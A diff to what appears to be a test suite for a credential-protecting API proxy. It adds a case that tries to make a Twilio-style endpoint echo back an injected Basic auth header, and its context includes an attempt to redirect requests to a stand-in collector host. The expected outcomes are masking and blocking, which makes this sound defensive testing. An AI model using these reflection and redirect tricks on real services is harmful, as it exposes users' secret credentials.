@@ -148,6 +148,18 @@ export const secrets: AttemptClass = {
       expected: /403 Forbidden.*no rule for TRACE/s,
     },
     {
+      id: 'sent-back',
+      attempt: 'have the API send back what it was sent, in headers and a byte at a time',
+      code: inside(async ({ api, speak }, { MESSAGES }) => {
+        const path = MESSAGES.replace('.json', '/SMreflect.json');
+        const raw = await speak(`GET ${path} HTTP/1.1\r\nHost: api.twilio.com\r\nConnection: close\r\n\r\n`);
+        // The body put together, as a client reads it.
+        return `${raw.split('\r\n\r\n', 1)[0]} ${await api(path)}`;
+      }),
+      expected: /400 Bad Request\r\n.*x-said: Basic \*{80,}.* 400 you sent Basic \*{80,}/s,
+      mayReach: /^GET \S+\/Messages\/SMreflect\.json$/,
+    },
+    {
       id: 'reflect',
       attempt: 'have it written into a log of its own by a redirect to another host',
       code: inside(({ api }) => api('/redirect?to=https://collector.example', { redirect: 'follow' })),
